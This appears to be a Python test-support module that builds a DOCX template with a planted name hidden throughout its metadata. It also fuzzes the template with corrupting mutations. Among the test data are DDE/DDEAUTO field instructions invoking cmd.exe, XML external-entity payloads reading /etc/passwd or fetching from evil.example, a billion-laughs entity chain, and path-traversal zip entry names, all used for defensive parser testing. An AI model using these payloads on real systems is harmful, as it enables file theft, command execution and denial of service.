"""A small house template that is honest and tells all that a template can tell of its makers; and ways to spoil it."""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable, Iterator, Mapping
from typing import Any, Final

from lxml import etree
from msgspec.structs import replace
from PIL import Image, PngImagePlugin
from tests.support.docx_reading import zip_of
from tests.support.sample_document import sample_document

from memocli.document import Document

# Stands wherever a template tells of people or places; it may be in no output.
PLANTED: Final = "PlantedPerson"
_OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE: Final = "http://schemas.openxmlformats.org/package/2006"
_DRAWING: Final = "http://schemas.openxmlformats.org/drawingml/2006"
_SPACES: Final = (
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
    f'xmlns:r="{_OFFICE}" xmlns:a="{_DRAWING}/main" xmlns:pic="{_DRAWING}/picture" '
    f'xmlns:wp="{_DRAWING}/wordprocessingDrawing" '
    'xmlns:wps="http://schemas.microsoft.com/office/word/2010/wordprocessingShape" '
    'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:v="urn:schemas-microsoft-com:vml" '
    'xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" '
    'xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml" mc:Ignorable="w14 w15"'
)
_EXTERNAL: Final = ' TargetMode="External"'
_DECLARATION: Final = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def telling_picture() -> bytes:
    """A picture whose metadata tell of a person."""
    buffer = io.BytesIO()
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", PLANTED)
    Image.new("RGB", (3, 2), "navy").save(buffer, "PNG", pnginfo=words)
    return buffer.getvalue()


def complex_field(instruction: str, result: str = "7") -> str:
    """A field as Word writes it: marks, instruction and result in runs of their own."""
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return (
        f'{mark.format("begin")}<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
        f"{mark.format('separate')}<w:r><w:t>{result}</w:t></w:r>{mark.format('end')}"
    )


def simple_field(instruction: str) -> str:
    """A field in one element."""
    return f'<w:fldSimple w:instr="{instruction}"><w:r><w:t>7</w:t></w:r></w:fldSimple>'


DRAWING: Final = (
    '<w:r><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0"><wp:extent cx="900000" cy="600000"/>'
    f'<wp:docPr id="4" name="{PLANTED}.png" descr="Logo"><a:hlinkClick r:id="link"/></wp:docPr>'
    f'<a:graphic><a:graphicData uri="{_DRAWING}/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="5" name="{PLANTED}.png"/>'
    '<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="logo"><a:extLst><a:ext uri="x"/></a:extLst></a:blip>'
    '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="900000" cy="600000"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
)
TEXT_BOX: Final = (
    '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wp:inline><wp:extent cx="900000" cy="600000"/>'
    f'<wp:docPr id="9" name="{PLANTED}"/><a:graphic><a:graphicData uri="http://schemas.microsoft.com/office/word/2010/wordprocessingShape">'
    '<wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr><wps:txbx><w:txbxContent>'
    "<w:p><w:r><w:t>In a box</w:t></w:r></w:p></w:txbxContent></wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic></wp:inline>"
    f"</w:drawing></mc:Choice><mc:Fallback><w:pict><v:shape o:title='{PLANTED}'/></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
)
_HEADER: Final = (
    f'<w:p w:rsidR="0BADC0DE" w14:paraId="0BADC0DE"><!-- {PLANTED} --><?by {PLANTED}?><w:pPr><w:pStyle w:val="Header"/>'
    f'<w:rPr><w:b/><w:rPrChange w:id="1" w:author="{PLANTED}" w:date="2031-01-01T00:00:00Z"><w:rPr/></w:rPrChange></w:rPr></w:pPr>'
    f'<w:bookmarkStart w:id="7" w:name="{PLANTED}"/><w:proofErr w:type="spellStart"/><w:r><w:t xml:space="preserve">Letterhead </w:t></w:r>'
    f'<w:permStart w:id="8" w:ed="{PLANTED}"/><w:bookmarkEnd w:id="7"/>'
    f'<w:hyperlink r:id="link" w:tooltip="{PLANTED}"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/></w:rPr><w:t>observatory.example</w:t></w:r>'
    f'</w:hyperlink>{DRAWING}{TEXT_BOX}</w:p><w:tbl><w:tblPr><w:tblW w:w="0" w:type="auto"/></w:tblPr><w:tblGrid><w:gridCol w:w="900"/></w:tblGrid>'
    f'<w:tr><w:tc><w:tcPr><w:tcW w:w="900" w:type="dxa"/></w:tcPr><w:sdt><w:sdtPr><w:alias w:val="{PLANTED}"/></w:sdtPr>'
    "<w:sdtContent><w:p><w:r><w:t>In a control</w:t></w:r></w:p></w:sdtContent></w:sdt></w:tc></w:tr></w:tbl>"
    f"<w:p>{complex_field(' STYLEREF &quot;heading 1&quot; ', PLANTED)}</w:p>"
)
_PAGE: Final = complex_field(" PAGE   \\* MERGEFORMAT ")
_FOOTER: Final = (
    f"<w:p><w:r><w:t>Page </w:t></w:r>{_PAGE}"
    f"<w:r><w:t> of </w:t></w:r>{simple_field(' NUMPAGES ')}</w:p>"
)
_SETTINGS: Final = (
    f'<w:writeProtection w:cryptProviderType="rsaFull" w:hash="{PLANTED}"/><w:zoom w:percent="100"/>'
    f'<w:attachedTemplate r:id="house"/><w:defaultTabStop w:val="720"/><w:evenAndOddHeaders/><w:saveThroughXslt w:solutionID="{PLANTED}"/>'
    f'<w:hdrShapeDefaults><o:shapedefaults v:ext="edit" spidmax="{PLANTED}"/></w:hdrShapeDefaults>'
    f'<w:compat><w:compatSetting w:name="compatibilityMode" w:uri="http://schemas.microsoft.com/office/word" w:val="15"/></w:compat>'
    f'<w:docVars><w:docVar w:name="by" w:val="{PLANTED}"/></w:docVars><w:rsids><w:rsidRoot w:val="0BADC0DE"/></w:rsids>'
    f'<w:themeFontLang w:val="en-US"/><w:decimalSymbol w:val="."/><w14:docId w14:val="0BADC0DE"/><w15:docId w15:val="{PLANTED}"/>'
)
_STYLES: Final = (
    '<w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="22"/><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault></w:docDefaults>'
    '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/><w:rsid w:val="0BADC0DE"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Ttulo1"><w:name w:val="heading 1"/><w:basedOn w:val="Normal"/><w:pPr><w:keepNext/>'
    '<w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:rFonts w:ascii="Arial"/><w:sz w:val="38"/><w14:ligatures w14:val="none"/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="ListBullet"><w:name w:val="List Bullet"/><w:pPr><w:numPr><w:numId w:val="1"/></w:numPr></w:pPr></w:style>'
)
_LISTS: Final = (
    '<w:abstractNum w:abstractNumId="0"><w:nsid w:val="0BADC0DE"/><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="bullet"/>'
    '<w:lvlText w:val="-"/><w:lvlJc w:val="left"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
)
_COLOUR: Final = '<a:solidFill><a:schemeClr val="phClr"/></a:solidFill>'
_THEME: Final = (
    f'<a:themeElements><a:clrScheme name="House"><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1></a:clrScheme>'
    '<a:fontScheme name="House"><a:majorFont><a:latin typeface="Arial"/></a:majorFont></a:fontScheme><a:fmtScheme name="House">'
    f'<a:bgFillStyleLst>{_COLOUR}{_COLOUR}<a:blipFill><a:blip r:embed="ground"/></a:blipFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements>'
    f'<a:extLst><a:ext uri="{PLANTED}"/></a:extLst>'
)
_TYPE: Final = "application/vnd.openxmlformats-officedocument.wordprocessingml"
# Kind of relationship → the path in word/, the root element, and what is in it.
_PARTS: Final = {
    "styles": ("styles.xml", "w:styles", _STYLES),
    "settings": ("settings.xml", "w:settings", _SETTINGS),
    "numbering": ("numbering.xml", "w:numbering", _LISTS),
    "fontTable": (
        "fontTable.xml",
        "w:fonts",
        '<w:font w:name="Arial"><w:family w:val="swiss"/></w:font>',
    ),
    "theme": ("theme/theme1.xml", "a:theme", _THEME),
    "header": ("header1.xml", "w:hdr", _HEADER),
    "footer": ("footer1.xml", "w:ftr", _FOOTER),
    "footnotes": ("footnotes.xml", "w:footnotes", f"<w:footnote><w:t>{PLANTED}</w:t></w:footnote>"),
    "comments": ("comments.xml", "w:comments", f'<w:comment w:id="1" w:author="{PLANTED}"/>'),
}


def _relations(*rows: tuple[str, str, str]) -> str:
    """A relationships part; a target with a colon lies outside."""
    inside = "".join(
        f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}"{_EXTERNAL * (":" in target)}/>'
        for name, kind, target in rows
    )
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{inside}</Relationships>'


def house_parts(**changes: str) -> dict[str, bytes]:
    """The template's parts; `changes` add XML to the end of a part, by its kind: `header="<w:p/>"`."""
    own = {
        f"word/{path}": f"<{root} {_SPACES}>{inside}{changes.get(kind, '')}</{root}>"
        for kind, (path, root, inside) in _PARTS.items()
    }
    references = '<w:headerReference w:type="default" r:id="header"/><w:footerReference w:type="default" r:id="footer"/>'
    texts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_TYPE}.document.main+xml"/></Types>'
        ),
        "_rels/.rels": _relations(("main", "officeDocument", "word/document.xml")),
        "word/document.xml": (
            f"<w:document {_SPACES}><w:body><w:p><w:r><w:t>{PLANTED}</w:t></w:r></w:p><w:sectPr>{references}"
            '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1400" w:right="1400" w:bottom="1400" w:left="1700" w:header="700" '
            'w:footer="700" w:gutter="0"/></w:sectPr></w:body></w:document>'
        ),
        "word/_rels/document.xml.rels": _relations(
            *((kind, kind, path) for kind, (path, _, _) in _PARTS.items())
        ),
        "word/_rels/header1.xml.rels": _relations(
            ("logo", "image", "media/image1.png"),
            ("link", "hyperlink", f"https://{PLANTED}.example/"),
            ("outside", "image", f"file:///C:/Users/{PLANTED}/logo.png"),
        ),
        "word/_rels/settings.xml.rels": _relations(
            ("house", "attachedTemplate", f"file:///C:/Users/{PLANTED}/House.dotx")
        ),
        "docProps/core.xml": f"<c>{PLANTED}</c>",
        **own,
    }
    parts = {path: (_DECLARATION + text).encode() for path, text in texts.items()}
    return parts | {"word/media/image1.png": telling_picture()}


def bare_memo(*, draft: bool = False) -> Document:
    """A document without a text, so that nearly all of its DOCX is the template's."""
    return replace(sample_document(draft=draft), blocks=(), notes=(), about=())


def central(data: bytes, name: bytes, offset: int, value: bytes) -> bytes:
    """The zip with another value in what its directory says of a part."""
    at = data.rindex(name) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    return data[: at + offset] + value + data[at + offset + len(value) :]


# ── ways to spoil it ─────────────────────────────────────────────────────────────────────────────

ACTS: Final = (
    "DDE cmd",
    "DDEAUTO c:\\\\windows\\\\cmd.exe",
    "INCLUDETEXT evil",
    "INCLUDEPICTURE evil",
    "LINK evil",
    "MACROBUTTON evil",
    "AUTHOR",
    "FILENAME \\p",
    "PAGE DDE",
    "STYLEREF {DDE}",
    "DATE",
    "",
)
_VALUES: Final = ("", "0", "-1", "9" * 400, "²", "nobody", "\u202e", "a" * 70000, "../../x", "&#10;", "true")  # fmt: skip
_SPACES_INSTEAD: Final = (
    "http://purl.oclc.org/ooxml/wordprocessingml/main",
    "urn:x",
    f"{_DRAWING}/main",
    "http://schemas.microsoft.com/office/word/2010/wordml",
)
Spoil = Callable[[random.Random, bytes], bytes]


def _flip(chance: random.Random, data: bytes) -> bytes:
    spoiled = bytearray(data)
    for _ in range(chance.randint(1, 4)):
        spoiled[chance.randrange(len(spoiled))] = chance.randrange(256)
    return bytes(spoiled)


def _cut(chance: random.Random, data: bytes) -> bytes:
    start = chance.randrange(len(data))
    return data[:start] + data[start + chance.randint(1, 200) :]


def _insert(chance: random.Random, data: bytes) -> bytes:
    noise = (b"&x;", b"<", b"]]>", b"\x00", b"<![CDATA[x]]>", b"<!-- x -->", b"<?x y?>", b"<w:object/>", b"<e xmlns='urn:x'/>")  # fmt: skip
    place = data.find(b">", chance.randrange(len(data))) + 1
    return data[:place] + chance.choice(noise) + data[place:]


def _doctype(chance: random.Random, data: bytes) -> bytes:
    doubling = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
    inside = chance.choice(
        (
            f'<!ENTITY l0 "ha">{doubling}',
            '<!ENTITY l8 SYSTEM "file:///etc/passwd">',
            '<!ENTITY % p SYSTEM "http://evil.example/x"> %p;',
        )
    )
    text = data.decode().removeprefix(_DECLARATION)
    text = text.replace('w:val="', 'w:val="&l8;', 1) if chance.random() < 0.5 else text
    text = f"{_DECLARATION}<!DOCTYPE x [{inside}]>{text}"
    return text.encode(chance.choice(("utf-8", "utf-16")))


def _encoding(chance: random.Random, data: bytes) -> bytes:
    name = chance.choice(("utf-16", "latin-1", "cp037", "utf-7", "utf-8-sig"))
    return data.decode().replace("UTF-8", name.upper(), 1).encode(name, "ignore")


def _tree(change: Callable[[random.Random, Any, Any], None]) -> Spoil:
    """A change of one element that is not the root."""

    def spoil(chance: random.Random, data: bytes) -> bytes:
        root: Any = etree.fromstring(data)
        inner = [element for element in root.iter(etree.Element) if element is not root]
        if inner:
            change(chance, chance.choice(inner), chance.choice(inner))
        return etree.tostring(root)

    return spoil


def _copied(chance: random.Random, one: Any, other: Any) -> None:
    other.addnext(etree.fromstring(etree.tostring(one)))


def _removed(chance: random.Random, one: Any, other: Any) -> None:
    one.getparent().remove(one)


def _moved(chance: random.Random, one: Any, other: Any) -> None:
    if one is not other and one not in other.iterancestors():
        other.insert(0, one)


def _revalued(chance: random.Random, one: Any, other: Any) -> None:
    if one.attrib:
        one.set(chance.choice(list(one.attrib)), chance.choice(_VALUES))


def _renamed(chance: random.Random, one: Any, other: Any) -> None:
    one.tag = f"{{{chance.choice(_SPACES_INSTEAD)}}}{etree.QName(one).localname}"


def _nested(chance: random.Random, one: Any, other: Any) -> None:
    for _ in range(chance.choice((5, 100, 240, 300))):
        one = etree.SubElement(one, other.tag)


def _acting(chance: random.Random, one: Any, other: Any) -> None:
    """Another instruction in a field, in one piece or in two."""
    word = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    act = chance.choice(ACTS)
    for found in one.getroottree().iter(f"{word}instrText", f"{word}fldSimple"):
        if found.tag == f"{word}fldSimple":
            found.set(f"{word}instr", act)
        else:
            half = chance.randint(0, len(act))
            found.text = act[:half]
            found.addnext(etree.Element(found.tag))
            found.getnext().text = act[half:]


_OF_A_PART: Final[tuple[Spoil, ...]] = (
    _flip,
    _cut,
    _insert,
    _doctype,
    _encoding,
    *map(_tree, (_copied, _removed, _moved, _revalued, _renamed, _nested, _acting)),
)


def _packed_oddly(chance: random.Random, parts: Mapping[str, bytes]) -> bytes:
    """The parts in a zip that has a part too many, of an odd name, or packed in an odd way."""
    buffer = io.BytesIO()
    packing = chance.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2))
    with zipfile.ZipFile(buffer, "w", packing, compresslevel=1) as archive:
        for path, content in parts.items():
            archive.writestr(path, content)
        name = chance.choice(("/word/x.xml", "../x.xml", "word\\x.xml", "WORD/STYLES.XML", "word/", "word/a\nb.xml", "é"))  # fmt: skip
        archive.writestr(name, b"x")
    return buffer.getvalue()


def _damaged(chance: random.Random, data: bytes) -> bytes:
    """A zip with a few bytes changed: anywhere, in what it says of a part, or cut short."""
    if chance.random() < 0.2:
        return data[: chance.randrange(len(data))]
    if chance.random() < 0.3:
        return _flip(chance, data)
    spoiled, signature = (
        bytearray(data),
        chance.choice((b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06")),
    )
    places = [found.start() for found in re.finditer(signature, data)]
    at = chance.choice(places) + chance.randint(4, 21 if signature == b"PK\x05\x06" else 45)
    for place in range(at, min(at + chance.randint(1, 4), len(data))):
        spoiled[place] = chance.choice((0, 1, 255, chance.randrange(256)))
    return bytes(spoiled)


def spoiled_templates(count: int, seed: int = 1) -> Iterator[tuple[str, bytes]]:
    """`count` templates, each spoiled in one way or several, and what was done: the same ones each time."""
    chance = random.Random(seed)
    honest = house_parts()
    xml = [path for path in honest if path.endswith((".xml", ".rels"))]
    read = [path for path in xml if "footnotes" not in path and "comments" not in path]
    for number in range(count):
        parts = dict(honest)
        done = []
        for _ in range(chance.choice((1, 1, 1, 2, 3))):
            path, spoil = chance.choice(read), chance.choice(_OF_A_PART)
            done.append(f"{number} {path} {spoil.__name__}")
            try:
                parts[path] = spoil(chance, parts[path])
            except (etree.XMLSyntaxError, UnicodeDecodeError):
                continue  # spoiled before
        if chance.random() < 0.05:
            parts["word/media/image1.png"] = _flip(chance, parts["word/media/image1.png"])
        data = zip_of(parts)
        if number % 5 == 0:
            data = _damaged(chance, data)
        elif number % 50 == 1:
            data = _packed_oddly(chance, parts)
        yield "; ".join(done), data
